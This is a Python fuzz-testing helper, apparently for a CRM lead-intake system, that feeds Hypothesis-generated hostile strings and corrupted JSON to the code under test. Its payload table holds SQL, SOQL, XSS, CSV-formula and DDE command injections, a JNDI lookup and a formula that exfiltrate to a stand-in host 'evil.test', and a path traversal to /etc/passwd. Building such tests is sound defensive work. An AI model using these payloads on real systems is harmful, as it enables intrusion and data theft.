"""What somebody hostile sends: texts that other programs obey, JSON of any shape, and good things damaged.

Why: anybody who fills a web-to-lead form chooses the texts, and whoever takes an org over chooses the shapes. Damage
to something good goes further in than noise, which the first check refuses. Derandomized: a red build must be red
again when it is repeated.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Mapping
from typing import Any

from hypothesis import settings
from hypothesis import strategies as st

TEXTS: Mapping[str, str] = {
    "sql": "Robert'); DROP TABLE crm.person; --",
    "dollar quotes": "$$; SELECT pg_sleep(9); $$",
    "soql": "x' OR Name LIKE '%",
    "html": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "ansi": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "8-bit ansi": "\x9b2J\x9d0;owned\x9c",
    "log line": 'x\r\n{"level":"fatal","event":"daemon.failed"}',
    "other line ends": "x\u2028y\u2029z\x85w\x0b\x0c",
    "csv formula": '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "csv command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv quotes": '"","\r\n"",""',
    "nul": "before\0after",
    "half an emoji": "\ud83d!",
    "bidi": "\u202egpj.exe\u2066\u200f",
    "unseen": "a\u200bb\u2060c\ufeffd\u00ade\U000e0041f",
    "format": "{0.__class__.__mro__} %s %n ${jndi:ldap://evil.test/x} {{7*7}}",
    "template": "{person_id} \\1 \\u0000",
    "noncharacters": "\ufffe\U0010ffff",
    "combining": "Z" + "\u0300" * 500,
    "path": "../../etc/passwd",
    "homoglyph": "Аdа Lоvelаce",
    "sentinels": "null",
    "backslashes": "\\'\\\"\\\\",
    "long": "山田" * 16_000,
}
"""By what they are meant to fool."""

FUZZ = settings(derandomize=True, max_examples=100, database=None)
"""The settings of every fuzz test; each takes its share of half a minute."""

text = st.one_of(st.sampled_from([*TEXTS.values()]), st.text(max_size=20))
number = st.one_of(
    st.integers(),
    st.sampled_from([-1, 0, 2**31, 2**63, 2**64, 10**400, -(10**400)]),
    st.floats(allow_nan=False),
)
scalar = st.one_of(st.none(), st.booleans(), number, text)
anything = st.recursive(
    scalar,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(text, inner, max_size=4)),
    max_leaves=8,
)


@st.composite
def damaged(draw: st.DrawFn, good: Any) -> Any:
    """Something good in which up to three members are replaced, taken out or doubled."""
    tree = copy.deepcopy(draw(good) if isinstance(good, st.SearchStrategy) else good)
    for _ in range(draw(st.integers(0, 3))):
        places = list(_places(tree))
        if places:
            holder, key = draw(st.sampled_from(places))
            _damage(draw, holder, key)
    return tree


def _damage(draw: st.DrawFn, holder: Any, key: Any) -> None:
    match draw(st.sampled_from(["replace", "drop", "double"])):
        case "drop":
            del holder[key]
        case "double":
            holder[key] = [holder[key], holder[key]]
        case _:
            holder[key] = draw(anything)


def _places(tree: Any) -> Any:
    """Yield every member as where it is held and by what key."""
    members = tree.items() if isinstance(tree, dict) else enumerate(tree) if isinstance(tree, list) else ()
    for key, value in members:
        yield tree, key
        yield from _places(value)


@st.composite
def torn(draw: st.DrawFn, whole: st.SearchStrategy[bytes]) -> bytes:
    """Bytes of which up to three stretches are cut out, repeated, or replaced by noise."""
    left = draw(whole)
    for _ in range(draw(st.integers(0, 3))):
        start = draw(st.integers(0, len(left)))
        end = min(len(left), start + draw(st.integers(0, 12)))
        stretch = draw(st.one_of(st.just(b""), st.just(left[start:end] * 2), st.binary(max_size=8), _TOKENS))
        left = left[:start] + stretch + left[end:]
    return left


_TOKENS = st.sampled_from(
    [
        *(
            b"{",
            b"}",
            b"[",
            b"]",
            b'"',
            b",",
            b":",
            b"\\",
            b"\\u0000",
            b"\\ud800",
            b"\0",
            b"\xff",
            b"\n",
            b"\r",
        ),
        *(b"1" * 5000, b"-0", b"1e999", b"NaN", b"[" * 2000, b'{"a":' * 2000, b"null"),
    ]
)


def as_json(tree: Any) -> bytes:
    """Write a tree as JSON, with whatever texts are in it."""
    return json.dumps(tree, ensure_ascii=False).encode("utf-8", "surrogatepass")
